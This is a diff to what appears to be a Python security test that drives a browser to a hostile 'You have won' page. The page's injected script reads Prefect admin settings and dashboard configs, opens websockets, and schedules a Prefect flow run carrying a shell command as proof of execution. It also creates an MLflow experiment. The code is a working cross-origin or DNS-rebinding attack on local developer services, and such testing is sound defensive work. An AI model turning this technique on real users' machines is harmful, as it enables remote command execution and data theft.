@@ -17,7 +17,7 @@ PAGE = "<!doctype html><title>You have won</title><body>"
 EXPERIMENT = "hostile"
 """Name of what the page would create in MLflow."""
 READ = {
-    "runs": "PREFECT/api/flow_runs/filter",
+    "server": "PREFECT/api/admin/settings",
     "version": "PREFECT/api/admin/version",
     "settings": "PREFECT/ui-settings",
     "key": "PREFECT/enter",
@@ -27,10 +27,10 @@ READ = {
     "host": "DASHBOARD/_stcore/host-config",
 }
 """What the page asks for and would read."""
-WRITTEN = ("start", "start with key", "start as form", "experiment", "experiment as form")
+WRITTEN = ("runs", "start", "start with key", "start as form", "experiment", "experiment as form")
 SOCKETS = {"stream": "DASHBOARD/_stcore/stream", "events": "PREFECT/api/events/out", "logs": "PREFECT/api/logs/out"}
 """Sockets that the page opens."""
-SCRIPT = """async ({read, sockets, start, run, experiment, created}) => {
+SCRIPT = """async ({read, sockets, runs, start, run, experiment, created}) => {
   const patience = (promise) => Promise.race([promise, new Promise(done => setTimeout(done, 4000, "nothing"))]);
   const got = {};
   const body = (url, options) => fetch(url, options).then(async answer => {
@@ -59,8 +59,12 @@ SCRIPT = """async ({read, sockets, start, run, experiment, created}) => {
     opened.onmessage = message => done("message");
     opened.onopen = () => address.includes("/api/") ? opened.send('{"type": "auth"}') : done("open");
   });
-  for (const [name, url] of Object.entries(read)) got[name] = await patience(body(url, {credentials: "include"}));
+  for (const [name, url] of Object.entries(read)) {
+    got[name] = await patience(body(url));
+    if (got[name] === "nothing") got[name] = await patience(body(url, {credentials: "include"}));
+  }
   for (const [name, url] of Object.entries(sockets)) got[name] = await patience(socket(url));
+  got["runs"] = await patience(body(runs, {...open, body: "{}"}));
   await patience(body(start, {...plain, body: run}));
   got["start"] = await patience(body(start, {...open, body: run}));
   got["start with key"] = await patience(body(start, {...keyed, body: run}));
@@ -86,6 +90,7 @@ def attack(chromium: Any, there: Platform, hostile: str, proof: Path, under: str
     else:  # the name resolved to the attacker's machine before
         page.route(hostile, lambda route: route.fulfill(content_type="text/html", body=PAGE))
         page.goto(hostile)
+        page.unroute(hostile)
     deployment = there.deployment("collect")["id"]
     run = {"state": {"type": "SCHEDULED"}, "job_variables": {"command": f"touch {proof}"}}
 
@@ -99,6 +104,7 @@ def attack(chromium: Any, there: Platform, hostile: str, proof: Path, under: str
             "read": {name: address(url) for name, url in READ.items()},
             "sockets": {name: address(url) for name, url in SOCKETS.items()},
             "start": address(f"PREFECT/api/deployments/{deployment}/create_flow_run"),
+            "runs": address("PREFECT/api/flow_runs/filter"),
             "run": json.dumps(run),
             "experiment": address("MLFLOW/api/2.0/mlflow/experiments/create"),
             "created": json.dumps({"name": EXPERIMENT}),
